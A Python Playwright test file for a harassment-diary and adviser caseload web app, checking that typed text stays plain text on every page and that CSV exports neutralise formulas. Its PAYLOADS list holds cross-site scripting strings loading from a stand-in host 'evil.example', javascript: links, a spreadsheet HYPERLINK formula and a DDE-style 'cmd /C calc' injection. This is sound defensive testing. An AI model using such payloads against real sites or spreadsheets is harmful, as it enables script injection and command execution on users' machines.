"""Text that would like to be more than text: shown as typed, on every page, and nothing else."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, FilePayload, Locator, Page, expect

from tests.browser.conftest import at_rest
from tests.browser.server import Server
from tests.browser.tab import told, until

# Whatever runs a script puts its name here; whatever is fetched goes to this host.
HOST = "evil.example"
PAYLOADS = {
    "script": f"<script src=//{HOST}/a.js></script><script>window.ran='script'</script>",
    "handler": f"<img src=http://{HOST}/b onerror=window.ran='img'><svg/onload=window.ran='svg'>",
    "closing": "</p></div></details><h1>Not ours</h1><style>*{display:none}</style><!--",
    "entity": "&lt;b&gt; &amp;amp; &#60;i&#62; &nbsp;",
    "markdown": f"# A **b** _c_ `d` ~~e~~\n\n- f\n1. g\n> h\n\n[i](http://{HOST}/c) <http://{HOST}>",
    "image": f"![a](http://{HOST}/d.png) ![b][1]\n\n[1]: //{HOST}/e.png",
    "javascript": "[a](javascript:window.ran='link') javascript:window.ran='x'",
    "autolink": f"http://{HOST}/f www.{HOST} me@{HOST} tel:999",
    "maths": r"$x^2$ $$\frac{1}{2}$$ \(y\) \[z\] $\href{javascript:window.ran=1}{k}$",
    "colour": ":red[stop] :blue-background[go] :material/home: :rainbow[r] :small[s] :tulip:",
    "braces": "{name} {0} {} %s %(x)s ${HOME} {{7*7}} <%= 7*7 %>",
    "formula": f'=HYPERLINK("http://{HOST}/g","Click")',
    "formulas": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bidi": "safe \u202etxet desrever \u2066end \u200fx",
    "override": "safe \u202eedirrevo lla",
    "zero_width": "a\u200bb\u200cc\u200dd\ufeffe\u00adf\u2060g",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 Z\u0351\u036b\u0343",
    "long": "m" * 4_000,
    "long_lines": "\n".join("w" * 300 for _ in range(10)),
}
BIDI, OVERRIDE = PAYLOADS["bidi"], PAYLOADS["override"]
# `make test` takes these; `make test-long` takes all of them to every field of the form.
FEW = ("handler", "markdown", "override")
FIELDS = ("what_happened", "where", "effect", "evidence", "witnesses")
FORM = {
    "What happened?": 4_000,
    "Where was it?": 4_000,
    "How did it affect you?": 4_000,
    "Is there any proof?": 4_000,
    "Who else saw or heard it?": 4_000,
    "A short label for that person": 80,
    "Reference number": 80,
    "What did they say or do?": 4_000,
}
PAGES = (
    "", "questions", "check_answers", "incidents", "what_this_is",
    "timeline", "case_review", "how_to_apply", "help", "about", "for_advisers", "caseload",
)  # fmt: skip
# What a page would have of its own had a text become more than text.
TURNED = f"""[onerror], [onload], .katex, iframe, object, embed, base, form, .sc-typed *,
  a[href*="{HOST}"], a[href^="javascript"], img[src^="http"], link[href*="{HOST}"], s, del"""
# Words of ours in one block with a text that turns directions: those that run from right to left.
TURNED_ROUND = """turning => {
  const found = [];
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node; node = texts.nextNode();) {
    const block = node.parentElement.closest("p, li, td, th, dd, dt, h1, h2, h3, h4, label, blockquote, button, summary, div") ?? document.body;
    const typed = node.parentElement.closest(".sc-typed:not(.st-key-sc_opened *), bdi, textarea, style, script");
    if (typed || !/[\u200f\u202a-\u202e\u2066-\u2069]/.test(block.textContent)) continue;
    const text = turning.reduce((rest, it) => rest.replaceAll(it, " ".repeat(it.length)), node.data);
    for (let at = 0; at < text.length - 1; at += 1) {
      if (!/^[a-z]{2}$/i.test(text.slice(at, at + 2))) continue;
      const [one, next] = [at, at + 1].map((from) => {
        const range = new Range();
        range.setStart(node, from);
        range.setEnd(node, from + 1);
        return range.getBoundingClientRect();
      });
      if (one.width && one.top === next.top && next.left < one.left) { found.push(node.data.slice(0, 160)); break; }
    }
  }
  return found;
}"""


def incident(number: int, payload: str) -> dict[str, object]:
    """Return an incident with one text in every field that takes one."""
    report = {
        "id": f"r{number}", "date": f"2026-10-{number + 2:02}", "to": "police", "by": "neighbour",
        "person": payload[:80], "reference": payload[:80], "response": payload,
    }  # fmt: skip
    return {
        "id": f"i{number}", "date": f"2026-10-{number + 1:02}", "kinds": ["abusive_language"],
        **dict.fromkeys(FIELDS, payload), "reports": [report],
    }  # fmt: skip


def case() -> dict[str, object]:
    return {
        "format": "selfcheck-case",
        "version": 1,
        "nation": "england",
        "area": "E08000035",
        "reference": PAYLOADS["handler"][:80],
        "adviser_notes": PAYLOADS["markdown"],
        "answers": {"repeated": "yes", "distress": "yes", "unwanted": "yes"},
        "incidents": [incident(n, text) for n, text in enumerate(PAYLOADS.values())],
    }


class Reader:
    """A reader on a narrow phone, who notes whatever goes out or runs."""

    def __init__(self, page: Page, server: Server) -> None:
        self.page, self.server = page, server
        self.asked: list[str] = []
        page.context.on("request", lambda request: self.asked.append(request.url))
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))

    def open_file(self, content: object, path: Path) -> None:
        self.page.goto(self.server.address)
        path.write_text(json.dumps(content))
        self.page.get_by_text("Open a file you saved").click()
        self.page.locator("input[type=file]").first.set_input_files(path)

    def expect_kept(self, incidents: int) -> None:
        """Wait until the tab holds that many incidents."""
        kept = lambda: len(told(self.page).get("incidents-0", ())) == incidents  # noqa: E731
        until(self.page, kept, lambda: "the tab was not told of the file")
        at_rest(self.page)

    def open(self, name: str) -> None:
        self.page.goto(f"{self.server.address}/{name}")
        expect(self.page.get_by_role("heading", level=1)).to_be_visible()
        at_rest(self.page)

    def expect_only_text(self) -> None:
        """Everything folded is unfolded, and nothing on the page is more than text."""
        self.page.evaluate("document.querySelectorAll('details').forEach((it) => it.open = true)")
        at_rest(self.page)
        turned = self.page.locator(TURNED)

        assert turned.evaluate_all("them => them.map((it) => it.outerHTML.slice(0, 200))") == []
        assert self.page.evaluate("window.ran") is None
        assert self.page.get_by_role("heading", name="Not ours").count() == 0
        expect(self.page.get_by_role("button", name="Exit this page")).to_be_visible()
        assert self.too_wide() == []
        assert self.page.evaluate(TURNED_ROUND, [BIDI, f"{OVERRIDE}.json", OVERRIDE]) == []
        hosts = {urlsplit(url).netloc for url in self.asked if url.startswith("http")}
        assert hosts == {urlsplit(self.server.address).netloc}

    def too_wide(self) -> list[str]:
        """Return what stands out of a narrow screen, but for what scrolls by itself."""
        found: list[str] = self.page.evaluate("""() => {
          const wide = document.documentElement.clientWidth;
          const scrolls = (it) => it && it !== document.body && (it.scrollWidth > it.clientWidth
            && ["auto", "scroll", "hidden", "clip"].includes(getComputedStyle(it).overflowX)
            && it.dataset.testid !== "stMain" || scrolls(it.parentElement));
          const out = [...document.querySelectorAll("main *, section *")].filter((it) =>
            it.getClientRects().length && it.getBoundingClientRect().right > wide + 1
            && !scrolls(it.parentElement));
          const main = document.querySelector('[data-testid="stMain"]');
          return [...out.map((it) => it.outerHTML.slice(0, 160)),
            ...[document.documentElement, main].filter((it) => it.scrollWidth > it.clientWidth + 1)
              .map((it) => `${it.tagName} scrolls sideways`)];
        }""")
        return found


def each_of(names: Iterable[str]) -> list[Any]:
    """Return the names of texts, those that are not among the few marked as long."""
    return [name if name in FEW else pytest.param(name, marks=pytest.mark.long) for name in names]


@pytest.fixture
def reader(browser: Browser, server: Server) -> Iterator[Reader]:
    context = browser.new_context(
        viewport={"width": 320, "height": 640}, locale="en-GB", accept_downloads=True
    )
    yield Reader(context.new_page(), server)
    context.close()


def typed(within: Page | Locator) -> list[str]:
    """Return the texts that people typed as they stand on screen, letter by letter."""
    found: list[str] = within.locator(".sc-typed").evaluate_all(
        "them => them.map((it) => it.textContent)"
    )
    return found


def test_an_opened_file_is_shown_as_typed_on_every_page(reader: Reader, tmp_path: Path) -> None:
    reader.open_file(case(), tmp_path / "case.json")
    reader.expect_kept(len(PAYLOADS))
    for name in PAGES:
        reader.open(name)
        reader.expect_only_text()

    reader.open("incidents")
    shown = typed(reader.page)
    for name, text in PAYLOADS.items():
        assert shown.count(text) >= len(FIELDS), name
        assert text[:80] in shown, name


@pytest.fixture(scope="module")
def diary(
    browser: Browser, server: Server, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Reader]:
    """Return a reader of a diary with one incident in it, told to one body."""
    context = browser.new_context(viewport={"width": 320, "height": 640}, locale="en-GB")
    reader = Reader(context.new_page(), server)
    one = {"incidents": [incident(0, "shouting")]}
    reader.open_file(case() | one, tmp_path_factory.mktemp("diary") / "case.json")
    reader.expect_kept(1)
    yield reader
    context.close()


@pytest.mark.parametrize("name", each_of(PAYLOADS))
def test_what_is_typed_stands_in_the_form_and_the_list_as_typed(diary: Reader, name: str) -> None:
    page, text = diary.page, PAYLOADS[name]
    diary.open("incidents")
    page.get_by_role("button", name=re.compile("^Change 1 October")).click()
    expect(page.get_by_role("textbox", name="What happened?")).to_be_visible()
    at_rest(page)
    fields = {
        page.get_by_role("textbox", name=re.compile(f"^{re.escape(label)}")): text.strip()[:most]
        for label, most in FORM.items()
    }
    for field, words in fields.items():
        field.fill(words)
    typed_in = {field: field.input_value() for field in fields}
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Your incidents")
    at_rest(page)
    diary.expect_only_text()
    shown = typed(page)

    assert [words for words in typed_in.values() if words.strip() not in shown] == []
    page.get_by_role("button", name=re.compile("^Change 1 October")).click()
    for field, words in typed_in.items():
        expect(field).to_have_value(words.strip())
    diary.expect_only_text()
    page.get_by_role("button", name="Cancel", exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Your incidents")
    at_rest(page)


@pytest.mark.parametrize(
    "name", each_of(["markdown", "colour", "maths", "script", "bidi", "override"])
)
def test_a_day_or_a_time_that_is_none_is_told_in_plain_text(diary: Reader, name: str) -> None:
    page, text = diary.page, PAYLOADS[name]
    if name == "markdown":
        text = f"[i](//{HOST})"
    diary.open("incidents")
    page.get_by_role("button", name="Add an incident").click()
    expect(page.get_by_role("textbox", name="What happened?")).to_be_visible()
    page.get_by_text("Add more detail").click()
    for label in ("Day", "Month", "Year", "What time"):
        page.get_by_role("textbox", name=re.compile(f"^{label}")).fill(text)
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.locator(".sc-wrong").filter(has_text="is not a")).to_have_count(2)
    at_rest(page)
    diary.expect_only_text()
    page.get_by_role("button", name="Cancel", exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Your incidents")
    at_rest(page)

    diary.open("how_to_apply")
    page.get_by_text("I have sent my application").click()
    for label in ("Day", "Month", "Year"):
        page.get_by_role("textbox", name=label).fill(text[:20])
    page.get_by_role("textbox", name="Year").press("Tab")
    expect(page.locator(".st-key-sc_group_applied .sc-wrong")).to_contain_text("is not a")
    at_rest(page)
    diary.expect_only_text()


def test_a_letter_shows_what_was_put_into_it_as_typed(reader: Reader, tmp_path: Path) -> None:
    page = reader.page
    texts = [text.strip() for name, text in PAYLOADS.items() if not name.startswith("long")]
    told = {"applicant": "on_behalf", "reference": OVERRIDE, "incidents": [incident(0, OVERRIDE)]}
    reader.open_file(case() | told, tmp_path / "case.json")
    reader.expect_kept(1)
    reader.open("how_to_apply")
    page.get_by_text("Put in your name and address").click()
    for label, text in (
        ("Your name", PAYLOADS["handler"]),
        ("The name of the person you are helping", OVERRIDE),
        ("Your address", PAYLOADS["markdown"]),
    ):
        field = page.get_by_role("textbox", name=label, exact=True)
        field.fill(text[:200])
        field.press("Tab")
        at_rest(page)
    page.get_by_text("Read and change your letter").click()
    reader.expect_only_text()
    page.get_by_role("button", name=re.compile("^Change: ")).first.click()
    field = page.get_by_role("textbox", name=re.compile("your words"))
    field.fill("\n\n".join(texts))
    at_rest(page)
    reader.expect_only_text()
    page.get_by_role("button", name=re.compile("^Done")).click()
    expect(page.get_by_text("You changed this part.")).to_be_visible()
    at_rest(page)
    reader.expect_only_text()
    letter = page.locator(".st-key-sc_paper").evaluate("it => it.textContent")

    assert PAYLOADS["handler"][:200] in letter
    assert OVERRIDE in letter
    blocks = [block for text in texts for block in re.split(r"\n\s*\n", text)]
    blocks = [block.strip().removeprefix("- ") for block in blocks]  # the sign of a list of ours
    assert [block for block in blocks if block not in letter] == []


def test_an_advisers_files_and_notes_are_shown_as_typed(reader: Reader) -> None:
    page = reader.page
    names = [f"**b** [i](x) $x$ :red[r] {OVERRIDE}.json", "<img src=x onerror=ran=1>.json"]
    files = [
        FilePayload(
            name=name,
            mimeType="application/json",
            buffer=json.dumps(
                case() | {"adviser_notes": text, "incidents": [incident(0, text)]}
            ).encode(),
        )
        for name, text in zip(names, (PAYLOADS["markdown"], OVERRIDE), strict=True)
    ]
    reader.open("for_advisers")
    page.locator(".stExpander summary").filter(has_text="Open").first.click()
    page.locator('[class*="st-key-client_files_"] input').set_input_files(files)
    expect(page.get_by_text("2 clients are open in this tab.")).to_be_visible()
    at_rest(page)
    reader.expect_only_text()
    notes = page.get_by_role("textbox", name=re.compile("^Notes on this client")).last

    assert [name for name in names if not any(name in shown for shown in typed(page))] == []
    expect(notes).to_have_value(PAYLOADS["markdown"])
    notes.fill(PAYLOADS["maths"])
    notes.press("Tab")
    page.get_by_role("button", name="Open client 2").click()
    expect(notes).to_have_value(OVERRIDE)
    at_rest(page)
    reader.expect_only_text()
    page.get_by_role("button", name="Open client 1").click()
    expect(notes).to_have_value(PAYLOADS["maths"])


def test_a_caseload_is_shown_as_typed_and_none_of_it_run_by_a_spreadsheet(
    reader: Reader, tmp_path: Path
) -> None:
    page = reader.page
    texts = {
        name: " ".join(text[:80].split())
        for name, text in PAYLOADS.items()
        if not name.startswith(("zero", "bidi", "override"))
    }
    file = tmp_path / "list.csv"
    with file.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["case", "reported on", "told", "happened on", PAYLOADS["handler"]])
        for text in texts.values():
            writer.writerow([text, "2026-09-03", "police", "2026-09-02", text])
            writer.writerow([text, text, text, text, text])
    reader.open("caseload")
    page.locator(".st-key-caseload_list input").set_input_files(file)
    expect(page.get_by_role("heading", name="Who must act soonest")).to_be_visible()
    at_rest(page)
    reader.expect_only_text()
    shown = page.locator("td, th").evaluate_all("them => them.map((it) => it.textContent)")

    assert [name for name, text in texts.items() if text not in shown] == []
    for button in ("Download every case", "Download these rows"):
        with page.expect_download() as download:
            page.get_by_role("button", name=button).click()
        read = csv.reader(io.StringIO(download.value.path().read_text("utf-8-sig")))
        cells = [cell for row in read for cell in row]
        assert f"'{texts['formula']}" in cells
        assert [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\t\r")] == []


@pytest.mark.long
def test_a_search_for_an_area_never_shows_more_than_it_found(
    reader: Reader, tmp_path: Path
) -> None:
    page = reader.page
    reader.open_file(case() | {"area": None, "incidents": []}, tmp_path / "case.json")
    expect(page.get_by_text("Your file is open.").first).to_be_visible()
    reader.open("check_answers")
    page.get_by_role("button", name=re.compile("Which council area")).click()
    for text in PAYLOADS.values():
        field = page.get_by_label("Postcode or council name")
        field.fill(text[:200])
        field.press("Tab")
        expect(page.locator(".st-key-sc_found")).to_be_visible()
        at_rest(page)
        reader.expect_only_text()


def test_what_cannot_be_read_of_a_file_is_shown_as_it_stands(
    reader: Reader, tmp_path: Path
) -> None:
    texts = [text for name, text in PAYLOADS.items() if not name.startswith("long")]
    broken = [
        incident(n, text) | {"date": "2026-02-31", text[:30]: text} for n, text in enumerate(texts)
    ]
    reader.open_file(case() | {"incidents": broken}, tmp_path / "case.json")
    page = reader.page
    expect(page.get_by_role("heading", name="What we could not read")).to_be_visible()
    at_rest(page)
    reader.expect_only_text()

    shown = "\n".join(typed(page))
    assert [text for text in texts if text not in shown] == []


@pytest.mark.parametrize("name", each_of(["handler", "entity", "maths", "bidi", "closing"]))
def test_a_refused_file_says_why_in_plain_text(reader: Reader, tmp_path: Path, name: str) -> None:
    reader.open_file(
        {PAYLOADS[name]: PAYLOADS[name], "version": PAYLOADS[name]}, tmp_path / "x.json"
    )
    expect(reader.page.get_by_text("We could not open that file.")).to_be_visible()
    at_rest(reader.page)

    reader.expect_only_text()


def test_a_list_is_shown_as_it_stands_before_it_goes_in(reader: Reader, tmp_path: Path) -> None:
    reader.open("incidents")
    page = reader.page
    bring_in(page, tmp_path / f"{PAYLOADS['colour'][:20].replace('/', '')}.csv")
    expect(page.get_by_role("heading", name="What goes in")).to_be_visible()
    at_rest(page)
    reader.expect_only_text()
    rows = page.locator(".sc-rows span").evaluate_all("them => them.map((it) => it.textContent)")

    for name, text in PAYLOADS.items():
        start = text.strip()[:100]
        assert any(start in row for row in rows), name
    page.get_by_role("button", name=re.compile("^Add [0-9]+ rows")).click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Your incidents")
    at_rest(page)
    reader.expect_only_text()
    shown = typed(page)
    assert [name for name, text in PAYLOADS.items() if text.strip() not in shown] == []


def bring_in(page: Page, file: Path) -> None:
    """Choose a list with a text in each row, in its headings and in dates that are none."""
    with file.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        odd = (PAYLOADS["handler"], PAYLOADS["markdown"])
        writer.writerow(["Date", "What happened", *odd, "Who was told", "Date told"])
        for number, text in enumerate(PAYLOADS.values()):
            day, told = f"{number + 1}/10/2026", ["police", f"{number + 2}/10/2026"]
            writer.writerow([day, text, text[:500], "", *told])
            writer.writerow([text[:500], text, "", text[:500], *told])
    page.get_by_text("Bring in a list, save it or print a sheet").click()
    page.get_by_role("button", name="Bring in a list from a file").click()
    page.locator(".st-key-bring_in_file input").set_input_files(file)


def test_no_cell_of_a_saved_list_is_run_by_a_spreadsheet(reader: Reader, tmp_path: Path) -> None:
    reader.open_file(case(), tmp_path / "case.json")
    reader.expect_kept(len(PAYLOADS))
    reader.open("incidents")
    reader.page.get_by_text("Bring in a list, save it or print a sheet").click()
    with reader.page.expect_download() as download:
        reader.page.get_by_role("button", name="Save the list as a spreadsheet").click()
    text = download.value.path().read_text("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]

    assert f"'{PAYLOADS['formula']}" in cells
    assert f"'{PAYLOADS['formulas']}" in cells
    assert [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\t\r")] == []


def test_a_text_that_turns_directions_turns_none_of_our_words(
    reader: Reader, tmp_path: Path
) -> None:
    reader.open("incidents")
    bring_in(reader.page, tmp_path / "list.csv")
    expect(reader.page.get_by_role("heading", name="What goes in")).to_be_visible()
    at_rest(reader.page)
    said = reader.page.locator(".sc-wrong").evaluate_all("them => them.map((it) => it.textContent)")

    assert any("txet desrever" in one for one in said)
    assert [one for one in said if re.search("[\u202a-\u202e\u2066-\u2069]", one)] == []
